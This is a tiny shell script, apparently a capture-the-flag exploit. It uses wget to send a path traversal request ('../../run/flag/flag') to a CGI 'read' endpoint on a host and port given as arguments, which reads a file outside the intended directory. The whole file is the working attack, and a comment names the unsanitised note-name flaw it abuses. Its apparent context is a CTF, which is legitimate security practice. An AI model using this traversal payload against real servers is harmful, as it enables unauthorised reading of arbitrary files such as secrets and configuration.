#!/bin/sh
# The name of a note may step upwards.
exec wget -q -O - "http://$1:${2:-8080}/cgi-bin/read?../../run/flag/flag"
